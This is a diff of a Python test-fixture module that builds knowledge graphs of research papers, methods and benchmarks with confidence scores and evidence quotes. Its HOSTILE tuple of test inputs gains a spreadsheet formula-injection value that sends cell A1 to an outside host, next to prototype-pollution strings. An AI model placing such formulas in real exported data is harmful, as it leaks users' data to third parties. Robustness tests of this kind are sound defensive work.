@@ -170,6 +170,7 @@ class Maker:
         page: URIRef,
         *quotes: str,
         lang: str = "en",
+        sure: str = "0.9",
     ) -> None:
         """State a fact with the sentences that say so."""
         self.facts.add((subject, predicate, thing))
@@ -181,12 +182,13 @@ class Maker:
         add((iri, RDF.subject, subject))
         add((iri, RDF.predicate, predicate))
         add((iri, RDF.object, thing))
-        add((iri, KG.confidence, Literal(Decimal("0.9"))))
+        add((iri, KG.confidence, Literal(Decimal(sure))))
         add((iri, PROV.wasDerivedFrom, page))
         for quote in quotes:
-            add((iri, KG.evidence, self._mention(thing, page, quote, lang)))
+            add((iri, KG.evidence, self.mention(thing, page, quote, lang)))
 
-    def _mention(self, thing: URIRef, page: URIRef, quote: str, lang: str) -> URIRef:
+    def mention(self, thing: URIRef, page: URIRef, quote: str, lang: str) -> URIRef:
+        """Add a sentence of a page that names a thing."""
         self._serial += 1
         iri = URIRef(f"{BASE}mention/{self._serial:08x}")
         begin = 40 * self._serial
@@ -328,6 +330,7 @@ HOSTILE = (
     "🧪👩🏽‍🔬 emoji בדיקה اختبار",
     "constructor",
     "__proto__",
+    '=HYPERLINK("https://example.org/?"&A1;"open")',
 )
 
 
@@ -399,6 +402,231 @@ def _sourced(
     return iri
 
 
+# Year and venue of each work, and what each says of what, how surely.
+DATED = ((2021, "iclr"), (2021, ""), (2023, "iclr"), (2024, ""), (0, "iclr"))
+TOLD = (
+    (0, KG.uses, "replay", "0.9", "Replay helps.", "Replay it is."),
+    (0, KG.studies, "memory", "0.9", "Memory fades."),
+    (1, KG.studies, "memory", "0.4", "Memory lasts."),
+    (1, KG.uses, "pruning", "0.25", "Pruning hurts."),
+    (1, KG.publishedIn, "neurips", "0.5", "NeurIPS it was."),
+    (2, KG.uses, "replay", "0.8", "Replay again."),
+    (2, KG.studies, "safety", "0.295", "Safety matters."),
+    (3, KG.studies, "safety", "0.9", "Safety first."),
+    (4, KG.uses, "search", "0.9", "Search ends."),
+)
+
+
+def dated() -> tuple[Graph, Graph]:
+    """Make a graph whose works differ in year, venue, page, language and confidence."""
+    maker = Maker()
+    things = {
+        name.lower(): maker.thing(kind, name.lower(), name)
+        for kind, names in (
+            ("Venue", "ICLR NeurIPS"),
+            ("Method", "Replay Pruning Search"),
+            ("Concept", "Field Memory Safety Alone"),
+        )
+        for name in names.split()
+    }
+    pages = [maker.page(number, "fr" if number % 2 else "en") for number in range(6)]
+    works = [
+        maker.publication(str(number), pages[number], title=f"Work {number}")
+        for number in range(len(DATED))
+    ]
+    add = maker.facts.add
+    for work, page, (year, venue) in zip(works, pages, DATED, strict=False):
+        lang = maker.facts.value(page, DCTERMS.language)
+        maker.facts.set((work, SCHEMA.inLanguage, lang))
+        if year:
+            date = Literal(f"{year}-05-01", datatype=XSD.date)
+            add((work, SCHEMA.datePublished, date))
+        if venue:
+            add((work, KG.publishedIn, things[venue]))
+    for number, predicate, thing, sure, *quotes in TOLD:
+        page = pages[number]
+        maker.say(works[number], predicate, things[thing], page, *quotes, sure=sure)
+    ada = maker.person("ada", "Ada Lovelace")
+    for work in (works[0], works[2]):
+        add((work, SCHEMA.author, ada))
+    add((works[0], PROV.wasDerivedFrom, pages[5]))
+    add((things["memory"], SKOS.broader, things["field"]))
+    return maker.graphs()
+
+
+def evaluations() -> tuple[Graph, Graph]:
+    """Make a graph of methods evaluated on benchmarks and compared with each other."""
+    maker = Maker()
+    page, french_page = maker.page(0, "en"), maker.page(1, "fr")
+    r2i = maker.thing("Method", "r2i", "Recall to Imagine", "", "R2I")
+    dreamer = maker.thing("Method", "dreamerv3", "DreamerV3", "DreamerV3")
+    states = maker.thing("Method", "ssm", "State space model", "Modèle d’états")
+    formula = maker.thing("Method", "formula", "=1+1", "+1")
+    motif = maker.thing("Method", "motif", "Motif", "Motif")
+    maker.thing("Method", "silent", "Silent method", "Méthode muette")
+    atari = maker.thing("Benchmark", "atari", "Atari", "Atari")
+    maze = maker.thing("Benchmark", "maze", "Memory Maze", "Labyrinthe de mémoire")
+    works = [maker.publication(str(n), page, title=f"Work {n}") for n in range(4)]
+    for work, year in zip(works, ("2024", "2022", "2023-05", "2021"), strict=True):
+        maker.facts.add((work, SCHEMA.datePublished, Literal(year)))
+    shown = "R2I does as well on Atari."
+    maker.say(works[0], KG.introduces, r2i, page, "We present Recall to Imagine (R2I).")
+    maker.say(works[0], KG.uses, states, page, "It has a State space model.")
+    maker.say(works[0], KG.evaluatesOn, atari, page, shown)
+    maker.say(
+        works[0],
+        KG.evaluatesOn,
+        maze,
+        french_page,
+        "Il résout le Labyrinthe de mémoire.",
+        lang="fr",
+    )
+    faster = "R2I is faster than DreamerV3."
+    maker.say(works[0], KG.comparesWith, dreamer, page, faster)
+    maker.say(r2i, KG.evaluatedOn, atari, page, shown, "Atari suits R2I.")
+    maker.say(r2i, KG.outperforms, dreamer, page, faster)
+    maker.say(works[1], KG.introduces, formula, page, "We call it =1+1.")
+    maker.say(works[1], KG.evaluatesOn, atari, page, "=1+1 plays Atari.")
+    maker.say(works[2], KG.introduces, motif, page, "We propose Motif.")
+    maker.say(works[3], KG.comparesWith, motif, page, "We do better than Motif.")
+    return maker.graphs()
+
+
+def joined() -> tuple[Graph, Graph]:
+    """Make a graph of things joined in one, two, three steps or not at all."""
+    maker = Maker()
+    pages = [maker.page(n, "en") for n in range(2)]
+    page = pages[0]
+    work = maker.publication("motif", page, title="Intrinsic motivation from feedback")
+    motif = maker.thing("Method", "motif", "Motif")
+    names = "large language model", "grand modèle de langue", "LLM"
+    models = maker.thing("Concept", "large-language-model", *names)
+    hack = maker.thing("Benchmark", "nethack", "NetHack")
+    maker.say(work, KG.introduces, motif, page, "We propose Motif.")
+    maker.say(work, KG.uses, models, page, "Motif asks a large language model.")
+    maker.say(work, KG.mentions, models, page, "LLMs know much.")
+    maker.say(models, KG.partOf, motif, page, "Motif is based on LLMs.")
+    maker.say(motif, KG.evaluatedOn, hack, page, "Motif plays NetHack.")
+    fields = "reinforcement learning", "apprentissage par renforcement"
+    hub = maker.thing("Concept", "reinforcement-learning", *fields)
+    for number in range(200):
+        part = maker.thing("Concept", f"part-{number}", f"part {number}")
+        maker.facts.add((part, SKOS.broader, hub))
+    dreamer = maker.thing("Method", "dreamerv3", "DreamerV3")
+    imagine = maker.thing("Method", "r2i", "Recall to Imagine", "", "R2I")
+    memory = maker.publication("memory", pages[1], title="Mastering memory tasks")
+    maker.say(imagine, KG.outperforms, dreamer, page, "R2I outperforms DreamerV3.")
+    maker.say(memory, KG.introduces, imagine, page, "We present R2I.")
+    maker.say(memory, KG.evaluatesOn, hack, page, "We play NetHack.")
+    maker.say(dreamer, KG.usedFor, hub, page, "DreamerV3 is for learning.")
+    maker.say(motif, KG.usedFor, hub, page, "Motif is for learning.")
+    ends = [maker.thing("Concept", name, name) for name in ("fairness", "privacy")]
+    for number in range(14):
+        survey = maker.publication(
+            f"survey{number}", pages[1], title=f"Survey {number}"
+        )
+        for end in ends:
+            maker.say(survey, KG.studies, end, pages[1], f"Survey {number} says so.")
+    ada = maker.person("ada", "Ada Lovelace")
+    maker.facts.add((work, SCHEMA.author, ada))
+    maker.facts.add((memory, SCHEMA.author, ada))
+    maker.thing("Concept", "topology", "topology", "topologie")
+    return maker.graphs()
+
+
+SITE = "https://lab.example/publications"
+DREAMER_SAID = "R2I beats DreamerV3, a baseline - by far."
+
+
+def reading() -> tuple[Graph, Graph]:
+    """Make a graph to be read: abstracts full of names, terms under terms, years."""
+    maker = Maker()
+    web, file = maker.page(0, "en"), maker.page(1, "fr")
+    maker.facts.set((web, DCTERMS.source, Literal(SITE)))
+    terms = {
+        slug: maker.thing("Concept", slug, *names)
+        for slug, *names in (
+            ("ai", "artificial intelligence", "intelligence artificielle", "AI"),
+            ("learning", "machine learning", "apprentissage automatique"),
+            ("rl", "reinforcement learning", "apprentissage par renforcement", "RL"),
+            ("deep", "deep learning", "apprentissage profond"),
+            ("deep-rl", "deep reinforcement learning", ""),
+            ("imitation", "imitation learning", "apprentissage par imitation", "IL"),
+            ("policy", "policy", "politique"),
+        )
+    }
+    below = ("rl learning", "deep learning", "imitation learning", "learning ai")
+    for pair in (*below, "deep-rl rl", "deep-rl deep"):
+        one, other = pair.split()
+        maker.facts.add((terms[one], SKOS.broader, terms[other]))
+    dreamer = maker.thing("Method", "dreamerv3", "DreamerV3")
+    imagine = maker.thing("Method", "r2i", "Recall to Imagine", "", "R2I")
+    atari = maker.thing("Benchmark", "atari", "Atari")
+    venue = maker.thing("Venue", "iclr", "ICLR")
+    _names_with_sources(maker, terms["rl"], terms["imitation"])
+    english = maker.publication(
+        "english",
+        web,
+        title="Recall",
+        abstract="Deep reinforcement learning needs motiv… (see more)ation. Recall to "
+        "Imagine (R2I) plays Atari; policies help reinforcement learning, not "
+        "imitation learning. Topology is left aside.",
+    )
+    maker.thing("Concept", "topology", "Topology")
+    said = "We study policies."
+    for predicate, thing, quote in (
+        (KG.introduces, imagine, "We present Recall to Imagine (R2I)."),
+        (KG.comparesWith, dreamer, DREAMER_SAID),
+        (KG.evaluatesOn, atari, "R2I plays Atari."),
+        (KG.studies, terms["deep-rl"], said),
+        (KG.studies, terms["rl"], said),
+        (KG.studies, terms["policy"], said),
+        (KG.publishedIn, venue, "ICLR 2024"),
+    ):
+        maker.say(english, predicate, thing, web, quote)
+    maker.say(imagine, KG.outperforms, dreamer, web, DREAMER_SAID)
+    maker.say(imagine, KG.evaluatedOn, atari, web, "R2I plays Atari.")
+    for said_so in list(maker.evidence.subjects(RDF.object, atari)):
+        again = maker.mention(atari, file, "R2I plays Atari.", "en")
+        maker.evidence.add((said_so, KG.evidence, again))
+    french_work = maker.publication("french", file)
+    for term, value in (
+        (
+            SCHEMA.abstract,
+            "Il étudie les Apprentissages par renforcement (RL) et "
+            "l’apprentissage par imitation (IL), puis les… (voir plus)",
+        ),
+        (SCHEMA.inLanguage, "fr"),
+    ):
+        lang = "fr" if term == SCHEMA.abstract else None
+        maker.facts.set((french_work, term, Literal(value, lang=lang)))
+    for name in ("rl", "imitation"):
+        maker.say(french_work, KG.studies, terms[name], file, "Il le dit.", lang="fr")
+    maker.say(french_work, KG.publishedIn, venue, file, "ICLR 2021")
+    works = [english, french_work]
+    for number in range(12):
+        works.append(maker.publication(f"work{number}", file, title=f"Work {number}"))
+        maker.say(
+            works[-1], KG.mentions, terms["learning"], file, f"It learns {number}."
+        )
+    for number, work in enumerate(works[:8]):
+        day = Literal(f"{2024 - number % 4}-05-17", datatype=XSD.date)
+        maker.facts.add((work, SCHEMA.datePublished, day))
+    ada = maker.person("ada", "Ada Lovelace")
+    for work in works[:3]:
+        maker.facts.add((work, SCHEMA.author, ada))
+    return maker.graphs()
+
+
+def _names_with_sources(maker: Maker, rl: URIRef, imitation: URIRef) -> None:
+    for thing, source, lang in (
+        (rl, "vocabulaire labkg : FranceTerme, OQLF (fr-CA)", "fr"),
+        (rl, "RL — attested in seeds/001.txt", "en"),
+        (imitation, "Larousse, 2024", "fr"),
+    ):
+        maker.facts.add((thing, KG.labelSource, Literal(source, lang=lang)))
+
+
 GRAPHS: dict[str, Callable[[], tuple[Graph, Graph]]] = {
     "empty": empty,
     "one": one,
@@ -407,4 +635,8 @@ GRAPHS: dict[str, Callable[[], tuple[Graph, Graph]]] = {
     "large": lambda: lab(1000),
     "hostile": hostile,
     "french": french,
+    "evaluations": evaluations,
+    "dated": dated,
+    "joined": joined,
+    "reading": reading,
 }
